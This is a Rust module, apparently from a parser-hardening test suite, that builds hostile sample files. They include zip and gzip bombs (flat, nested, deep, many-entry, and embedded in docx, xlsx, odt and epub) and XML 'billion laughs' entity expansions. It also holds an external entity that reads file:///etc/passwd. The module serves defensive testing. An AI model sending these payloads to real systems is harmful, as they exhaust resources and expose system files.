//! Little that becomes much: packed zeros, entities within entities.

use crate::attacks::Attack;
use crate::packed::{gzip, zip, zip_bomb};
use crate::samples::{docx_of, epub_of, odf_of, xlsx_of};

pub(crate) fn attacks() -> Vec<Attack> {
    let mut all = packed();
    all.extend(entities());
    all
}

fn packed() -> Vec<Attack> {
    const MIB: usize = 256;
    let flat = zip_bomb(&[], "flat.txt", "", MIB);
    // 64 MiB in each of 16 files in each of 16 files.
    let little = zip_bomb(&[], "little.txt", "", 64);
    let more = zip(&(0..16)
        .map(|n| (format!("{n}.zip"), &little))
        .collect::<Vec<_>>());
    let nested = zip(&(0..16)
        .map(|n| (format!("{n}.zip"), &more))
        .collect::<Vec<_>>());
    let deep = (0..100).fold(zip(&[("a.md", "# The bottom")]), |inner, _| {
        zip(&[("in.zip", inner)])
    });
    let many: Vec<(String, &str)> = (0..20_000).map(|n| (format!("{n}.bin"), "")).collect();
    // The part that goes on for ever is cut off where it says so.
    let in_it = |parts: Vec<(&'static str, String)>, part: &str| {
        let others: Vec<(&str, &str)> = parts
            .iter()
            .filter(|(name, _)| *name != part)
            .map(|(name, content)| (*name, content.as_str()))
            .collect();
        let content = &parts.iter().find(|(name, _)| *name == part).unwrap().1;
        let (begin, _) = content.split_once("HERE").unwrap();
        zip_bomb(&others, part, begin, MIB)
    };
    let words = format!("<!doctype html><p>{}", "bomb ".repeat(1 << 20));
    vec![
        Attack::new("bomb-flat.zip", flat.clone()),
        Attack::new("bomb-nested.zip", nested),
        Attack::new("bomb-deep.zip", deep),
        Attack::new("bomb-many.zip", zip(&many)),
        Attack::new("bomb.tar.gz", gzip(&flat)),
        Attack::new("bomb.html.gz", gzip(words.as_bytes())),
        Attack::new(
            "bomb-gzip.gz",
            (0..100).fold(b"# The bottom".to_vec(), |inner, _| gzip(&inner)),
        ),
        Attack::new(
            "bomb.docx",
            in_it(docx_of("<w:p><w:r><w:t>HERE"), "word/document.xml"),
        ),
        Attack::new(
            "bomb.xlsx",
            in_it(xlsx_of("<sst><si><t>HERE"), "xl/sharedStrings.xml"),
        ),
        Attack::new(
            "bomb.odt",
            in_it(odf_of("text", "<office:text><text:p>HERE"), "content.xml"),
        ),
        Attack::new("bomb.epub", in_it(epub_of("<p>HERE", ""), "c.xhtml")),
    ]
}

/// Ten of the one before, ten times over; and one that is long and often used.
fn declared(root: &str) -> [(String, &'static str); 2] {
    let mut laughs = format!("<!DOCTYPE {root} [<!ENTITY e0 \"laugh\">");
    for n in 1..10 {
        let ten = format!("&e{};", n - 1).repeat(10);
        laughs.push_str(&format!("<!ENTITY e{n} \"{ten}\">"));
    }
    laughs.push_str("<!ENTITY file SYSTEM \"file:///etc/passwd\">]>");
    let long = "laugh".repeat(20_000);
    let often = format!("<!DOCTYPE {root} [<!ENTITY e9 \"{long}\"><!ENTITY file \"&file;\">]>");
    [(laughs, "laughs"), (often, "often")]
}

fn entities() -> Vec<Attack> {
    let used = "&e9;&file;".repeat(5_000);
    let mut all = Vec::new();
    for (name, root, body) in [
        (
            "opml",
            "opml",
            format!("<opml><body><outline text=\"{used}\">{used}</outline></body></opml>"),
        ),
        ("svg", "svg", format!("<svg><text>{used}</text></svg>")),
        ("xml", "a", format!("<a b=\"{used}\">{used}</a>")),
        (
            "xhtml",
            "html",
            format!("<html><body><p>{used}</p></body></html>"),
        ),
    ] {
        for (declared, kind) in declared(root) {
            let text = format!("<?xml version=\"1.0\"?>{declared}{body}");
            all.push(Attack::new(format!("{kind}.{name}"), text));
        }
    }
    // In the part of an Office file or a book that holds the text.
    let text = format!("<w:p><w:r><w:t>{used}</w:t></w:r></w:p>");
    let string = format!("<sst><si><t>{used}</t></si></sst>");
    let paragraph = format!("<office:text><text:p>{used}</text:p></office:text>");
    for (name, root, part, parts) in [
        ("docx", "w:document", "word/document.xml", docx_of(&text)),
        ("xlsx", "sst", "xl/sharedStrings.xml", xlsx_of(&string)),
        (
            "odt",
            "office:document-content",
            "content.xml",
            odf_of("text", &paragraph),
        ),
        ("epub", "html", "c.xhtml", epub_of(&used, "")),
    ] {
        for (declared, kind) in declared(root) {
            let mut parts = parts.clone();
            let (_, content) = parts.iter_mut().find(|(name, _)| *name == part).unwrap();
            let after = content.find("?>").map_or(0, |at| at + 2);
            content.insert_str(after, &declared);
            all.push(Attack::new(format!("{kind}.{name}"), zip(&parts)));
        }
    }
    all
}
